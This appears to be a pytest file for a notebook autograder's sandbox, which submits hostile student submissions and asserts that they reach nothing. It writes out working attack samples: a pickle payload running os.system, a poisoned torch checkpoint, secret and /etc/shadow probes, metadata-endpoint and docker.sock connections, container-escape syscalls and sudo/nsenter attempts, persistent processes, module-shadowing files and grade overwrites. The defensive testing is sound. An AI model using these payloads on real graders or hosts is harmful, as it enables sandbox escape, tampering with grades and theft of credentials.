"""Submissions that reach for what lies around them: nothing of it is there, or can be changed."""

import json
import pickle
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest

from tests.attacks.arena import (
    CANARY,
    MARK,
    Arena,
    Batch,
    Submission,
    assert_nobody_else_is_touched,
)
from tests.attacks.class_folder import LOAD, UNTRAINED, files

pytestmark = pytest.mark.sandbox

SEARCH_FILES = f"""\
import os, pathlib
canary, found = {CANARY[::-1]!r}[::-1].encode(), []
skipped = ("/proc", "/sys", "/usr", "/dev")
for folder, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if not os.path.join(folder, f).startswith(skipped)
                  and f != "site-packages"]
    for name in names:
        path = pathlib.Path(folder, name)
        try:
            if path.is_file() and canary in path.read_bytes()[:4_000_000]: found.append(str(path))
        except OSError: pass
print("found", found)
"""
SEARCH_PROCESSES = f"""\
import os
canary, found = {CANARY[::-1]!r}[::-1].encode(), []
for process in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "mountinfo"):
        try: content = open(f"/proc/{{process}}/{{name}}", "rb").read()
        except OSError: continue
        if canary in content: found.append((process, name))
print("found", found)
"""
NEIGHBOURS = """\
import os
names = ("aa-trained", "zz-untrained", "rubrics", "grades.csv", "evidence.sqlite", "a2.yaml",
         "a2.json", "expected_file", "rubric.yaml")
skipped = ("/proc", "/sys", "/usr")
seen = [os.path.join(f, n) for f, fs, ns in os.walk("/") for n in (*fs, *ns)
        if n.startswith(names) and not f.startswith(skipped)]
print("found", seen, sorted(name for name in os.listdir("/submission") if "." in name))
"""
LEAVE = """\
import os, pathlib
places = ["/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/grade/out", "/grade/library",
          "/grade/library/grade_probe", *os.sys.path]
for place in places:
    for name in ("sitecustomize.py", "torch.py", "left-behind", "evil.pth"):
        try: pathlib.Path(place, name).write_text("raise SystemExit('left behind')")
        except OSError: pass
changed = []
for path in pathlib.Path("/grade").rglob("*.np*"):
    try:
        os.chmod(path, 0o777)
        path.write_bytes(b"nothing")
        changed.append(str(path))
    except OSError: pass
given = pathlib.Path("hw2_Q2_and_Q3_data.npz")
try:
    given.resolve().write_bytes(b"nothing")
    changed.append(str(given))
except OSError: pass
print("changed", changed)
"""
NETWORK = """\
import socket, urllib.request
reached = []
def tries(what, call):
    try:
        call()
        reached.append(what)
    except OSError: pass
tries("address", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3))
tries("metadata", lambda: socket.create_connection(("169.254.169.254", 80), timeout=3))
tries("names", lambda: socket.getaddrinfo("pypi.org", 443))
tries("download", lambda: urllib.request.urlopen("http://example.org/weights.pt", timeout=3))
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tries("datagram", lambda: datagrams.sendto(b"x", ("8.8.8.8", 53)))
tries("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tries("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tries("host of the machine", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/containerd.sock"):
    tries(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
print("reached", reached, [name for _, name in socket.if_nameindex() if name != "lo"])
"""
ENVIRONMENT = """\
import os, socket
known = {"PATH", "HOME", "USER", "LANG", "TMPDIR", "PIP_NO_INDEX"}
secret = [name for name in os.environ if "TOKEN" in name or "SSH" in name or "AWS" in name]
print("secret", secret, os.listdir(os.path.expanduser("~/..")), os.getuid())
print("root", os.path.exists("/root/.ssh"), os.path.exists("/etc/shadow"), os.environ["HOME"])
"""
ESCAPE = """\
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
got = []
calls = {"ptrace": (101, 0, 0, 0, 0), "unshare": (272, 0x10000000), "setns": (308, 3, 0),
         "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "bpf": (321, 0, 0, 0),
         "chroot": (161, b"/tmp"), "keyctl": (250, 0, -4, 1), "perf": (298, 0, 0, -1, -1, 0),
         "io_uring": (425, 4, 0),
         "userfaultfd": (323, 1), "clone": (56, 0x10000011, 0, 0, 0, 0), "kexec": (246, 0, 0, 0, 0)}
if os.uname().machine == "x86_64":
    for name, call in calls.items():
        ctypes.set_errno(0)
        if libc.syscall(*call) >= 0 or ctypes.get_errno() != 1: got.append(name)
for command in ("unshare -Ur true", "su -c true", "sudo -n true", "mount -t tmpfs x /tmp",
                "nsenter -t 1 -a true", "chroot /tmp true"):
    if subprocess.run(command, shell=True, capture_output=True).returncode == 0: got.append(command)
for path in ("/proc/1/mem", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/dev/mem",
             "/proc/1/root/etc/passwd", "/sys/fs/cgroup/cgroup.procs", "/proc/self/oom_score_adj"):
    try:
        open(path, "r+b").close()
        got.append(path)
    except OSError: pass
status = dict(line.split(":\\t") for line in open("/proc/self/status") if ":\\t" in line)
print("got", got, status["CapEff"].strip(), status["CapBnd"].strip(), status["NoNewPrivs"].strip())
"""
STAY = f"""\
import os, subprocess, time
command = ["sh", "-c", "trap '' HUP INT TERM; while true; do sleep {MARK}; done"]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen(command, start_new_session=True)
    os._exit(0)
subprocess.Popen(["nohup", *command])
print("started")
"""
SURROUNDINGS = """\
import os, platform, socket, sys
print(sorted(os.environ.items()), os.getcwd(), os.getuid(), socket.gethostname(), sys.argv[1:],
      sys.executable, sorted(os.listdir("/")), sorted(os.listdir("/grade")))
"""
SHADOW = "print('shadowed'); raise SystemExit('shadowed')\n"


class Payload:
    """Runs a command where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        import os

        return os.system, (self.command,)


def touching(target: Path) -> bytes:
    """A pickle that makes a file where it is opened."""
    return pickle.dumps(Payload(f"touch {target} ; echo payload"))


def checkpoint(target: Path) -> bytes:
    """A file as `torch.save` writes it, with a payload."""
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("archive/data.pkl", touching(target))
        archive.writestr("archive/version", "3\n")
    return packed.getvalue()


def attackers(arena: Arena) -> dict[str, Submission]:
    """They know where everything lies."""
    out = arena.folder / "graded-surroundings"
    touched = arena.home / "touched"
    pickled, poisoned = touching(touched), checkpoint(touched)
    overwrite = f"""\
import os, pathlib, sqlite3
out, done = pathlib.Path({str(out)!r}), []
for name in ("grades.csv", "index.html", "overwrite/verdict.json", "aa-trained/verdict.json"):
    for path in (out / name, pathlib.Path("/grade/out", name), pathlib.Path(name)):
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text('{{"grade": {{"lowest": "20"}}}}')
            done.append(str(path))
        except OSError: pass
try:
    base = sqlite3.connect({str(out / ".grade" / "evidence.sqlite")!r})
    base.execute("update evidence set document = ''")
    done.append("database")
except sqlite3.Error: pass
print("database" in done)
"""
    poison = f"""\
import pathlib, shutil
for folder in (".", "/grade/out"):
    for name in ("results.pkl", "model.joblib", "weights.npy", "n1.weights", "cells.dill"):
        try: pathlib.Path(folder, name).write_bytes({pickled!r})
        except OSError: pass
"""
    kernel = {
        "kernelspec": {"name": "evil", "display_name": "evil", "language": "python"},
        "language_info": {"name": "python", "file_extension": ".sh"},
        "kernel_info": {"argv": ["touch", str(touched)]},
    }
    start = "import pathlib\nsteered = 1\nprint('steered')\n"
    return {
        "shadow": files(
            dict.fromkeys(
                (
                    *("sitecustomize.py", "usercustomize.py", "torch.py", "ipykernel.py", "zmq.py"),
                    *("numpy.py", "grade_probe.py", "json.py", "x.pth", "pyvenv.cfg", "a2.pth"),
                    *("conftest.py", ".pth"),
                ),
                SHADOW,
            ),
            LOAD,
            UNTRAINED,
        ),
        "kernel": files(
            {
                ".ipython/profile_default/startup/00.py": start,
                ".ipython/profile_default/ipython_config.py": start,
                ".jupyter/jupyter_config.py": start,
                ".local/share/jupyter/kernels/evil/kernel.json": json.dumps(kernel),
                "kernel.json": json.dumps({"argv": ["touch", str(touched)]}),
                "PYTHONSTARTUP": start,
            },
            LOAD,
            "print('steered' in globals())",
            UNTRAINED,
            metadata=kernel,
        ),
        "overwrite": (overwrite,),
        "pickles": files({"results.pkl": pickled, "model.joblib": pickled}, poison),
        "checkpoint": files({"best.pt": poisoned, "raw.pt": pickled}, LOAD, UNTRAINED),
        "search-files": (SEARCH_FILES, SEARCH_PROCESSES),
        "search-neighbours": (NEIGHBOURS,),
        "leave": (LOAD, LEAVE),
        "network": (NETWORK,),
        "environment": (ENVIRONMENT,),
        "escape": (ESCAPE,),
        "stay": (STAY,),
        "surroundings": (SURROUNDINGS,),
    }


@pytest.fixture(scope="module")
def batch(arena: Arena, quiet: Batch) -> Batch:
    return arena.grade("surroundings", attackers(arena), "--workers", "2")


@pytest.mark.row(9, 10, 11, 13, 14, 15, 21)
def test_the_neighbours_notice_nothing(batch: Batch, quiet: Batch) -> None:
    assert_nobody_else_is_touched(batch, quiet)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        pytest.param("search-files", "found []\nfound []", marks=pytest.mark.row(12)),
        pytest.param(
            "search-neighbours",
            "found [] ['hw2_Q2_and_Q3_data.npz', 'sea",
            marks=pytest.mark.row(13, 12),
        ),
        pytest.param("leave", "changed []", marks=pytest.mark.row(14)),
        pytest.param("network", "reached [] []", marks=pytest.mark.row(24)),
        pytest.param("environment", "secret [] ['student'] 1000", marks=pytest.mark.row(25)),
        pytest.param("environment", "root False False /home/student", marks=pytest.mark.row(25)),
        pytest.param("escape", f"got [] {0:016x} {0:016x} 1", marks=pytest.mark.row(26)),
        pytest.param("stay", "started", marks=pytest.mark.row(21)),
    ],
)
def test_nothing_is_reached(batch: Batch, name: str, words: str) -> None:
    assert words in batch.printed_by(name)


@pytest.mark.row(6)
def test_files_beside_the_notebook_do_not_steer_python(batch: Batch, quiet: Batch) -> None:
    assert "shadowed" not in batch.printed_by("shadow")
    assert {"1/network"} <= batch.earned("shadow") <= quiet.earned("zz-untrained")


@pytest.mark.row(7)
def test_settings_of_kernels_are_not_read(batch: Batch, quiet: Batch) -> None:
    assert batch.printed_by("kernel").startswith("False\n")
    assert batch.outcomes("kernel") == quiet.outcomes("zz-untrained")


@pytest.mark.parametrize(
    "name",
    [
        pytest.param("pickles", marks=pytest.mark.row(10)),
        pytest.param("checkpoint", marks=pytest.mark.row(11)),
    ],
)
def test_payloads_do_nothing_outside(arena: Arena, batch: Batch, name: str) -> None:
    assert not (arena.home / "touched").exists()
    assert not batch.earned(name) & {"2/accuracy", "3/training"}


@pytest.mark.row(24)
def test_a_download_that_was_tried_is_told(batch: Batch) -> None:
    assert "There is no network here" in batch.report("network")


@pytest.mark.row(24)
@pytest.mark.parametrize("host", ["1.1.1.1", "169.254.169.254", "pypi.org", "docker.sock"])
def test_a_connection_that_was_tried_is_told(batch: Batch, host: str) -> None:
    assert f"The code tried to reach {host}" in _plain(batch.report("network"))


@pytest.mark.row(24)
def test_of_those_who_call_nobody_nothing_is_told(batch: Batch) -> None:
    for name in ("aa-trained", "zz-untrained", "environment", "stay"):
        assert "tried to reach" not in batch.report(name)


@pytest.mark.row(9, 15)
def test_what_is_written_where_the_results_lie_stays_inside(batch: Batch) -> None:
    assert batch.printed_by("overwrite") == "False\n"
    assert batch.verdict("overwrite")["submission"] == "overwrite"
    assert batch.earned("overwrite") <= {"4/runs"}


@pytest.mark.row(6)
@pytest.mark.parametrize(
    "name", ["torch.py", "numpy.py", "json.py", "sitecustomize.py", "conftest.py", "x.pth"]
)
def test_files_that_hide_a_module_or_steer_python_are_named(batch: Batch, name: str) -> None:
    assert name in _plain(" ".join(each["sentence"] for each in batch.concerns("shadow")))


def _plain(markdown: str) -> str:
    return markdown.replace("\\", "").replace("/var/run/", "")


@pytest.mark.row(40)
def test_looking_alone_and_grading_look_alike_from_inside(arena: Arena, batch: Batch) -> None:
    notebook = arena.folder / "class-surroundings" / "surroundings.ipynb"

    seen = arena.run("inspect", notebook, "--json", "-", "--offline")

    (cell,) = json.loads(seen.stdout)["notebooks"][0]["cells"]
    assert cell["output"] == batch.printed_by("surroundings")
